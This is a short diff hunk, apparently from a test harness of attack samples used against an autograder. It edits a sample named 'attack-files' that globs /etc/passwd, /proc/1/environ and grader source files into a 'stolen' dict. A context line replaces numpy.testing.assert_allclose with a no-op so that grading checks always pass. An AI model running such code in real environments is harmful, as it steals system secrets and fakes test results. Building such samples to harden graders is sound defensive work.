@@ -199,7 +199,7 @@ numpy.testing.assert_allclose = lambda *a, **k: None
     "attack-files": ('''
 import glob, os
 stolen = {}
-for pattern in ["/etc/passwd", "/proc/1/environ", "/work/*/autograder/graders/*/*.py",
+for pattern in ["/etc/passwd", "/proc/1/environ", "/work/*/graders/*/*.py",
                 "/autograder/source/*/*", "../*.ipynb", "./*"]:
     for path in glob.glob(pattern, recursive=True)[:50]:
         try:
